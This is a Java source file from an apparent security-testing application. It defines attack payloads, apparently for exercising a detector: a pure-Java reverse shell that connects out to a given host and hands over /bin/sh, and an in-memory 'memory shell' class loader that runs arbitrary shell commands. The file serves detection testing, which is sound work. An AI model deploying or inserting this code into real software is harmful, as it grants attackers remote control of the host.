package dev.vigil.testapp;

import java.io.InputStream;
import java.util.function.Function;

/**
 * An in-memory class, as a memory shell brings its own: the bytes of {@link Shell} defined again by
 * a class loader of no code source, then run.
 */
final class Payloads {
    private Payloads() {}

    /** What the defined class does: starts the command. */
    public static final class Shell implements Function<String, Object> {
        @Override
        public Object apply(String cmd) {
            try {
                return Runtime.getRuntime().exec(new String[] {"sh", "-c", cmd}).waitFor();
            } catch (Exception e) {
                return e.toString();
            }
        }
    }

    private static class Loader extends ClassLoader {
        Loader() {
            super(Payloads.class.getClassLoader());
        }

        Class<?> define(String name, byte[] b) {
            return defineClass(name, b, 0, b.length);
        }
    }

    /**
     * A reverse shell in Java alone, as Metasploit's java payloads make one: a thread of its own (not
     * the request's; named as asked, so that a test can tell it) connects, starts a shell with no command, and pumps the socket into it and back.
     */
    static String javaShell(String host, int port, String threadName) {
        Thread t = new Thread(() -> {
            try (java.net.Socket s = new java.net.Socket(host, port)) {
                Process sh = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
                Thread in = new Thread(() -> pump(s, sh));
                in.setDaemon(true);
                in.start();
                sh.getInputStream().transferTo(s.getOutputStream());
                sh.waitFor();
            } catch (Exception gone) {
                // the other end left
            }
        }, threadName);
        t.setDaemon(true);
        t.start();
        return "started";
    }

    private static void pump(java.net.Socket s, Process sh) {
        try (java.io.OutputStream to = sh.getOutputStream()) {
            s.getInputStream().transferTo(to);
        } catch (Exception gone) {
            // either end left
        }
    }

    @SuppressWarnings("unchecked")
    static Object defineAndRun(String cmd) throws Exception {
        byte[] bytes;
        try (InputStream in = Payloads.class.getResourceAsStream("Payloads$Shell.class")) {
            bytes = in.readAllBytes();
        }
        // a loader of its own that does not ask its parent first: the class is defined from these bytes
        Class<?> c = new Loader() {
            @Override
            protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
                return name.equals(Shell.class.getName()) ? define(name, bytes) : super.loadClass(name, resolve);
            }
        }.loadClass(Shell.class.getName());
        return ((Function<String, Object>) c.getDeclaredConstructor().newInstance()).apply(cmd);
    }
}
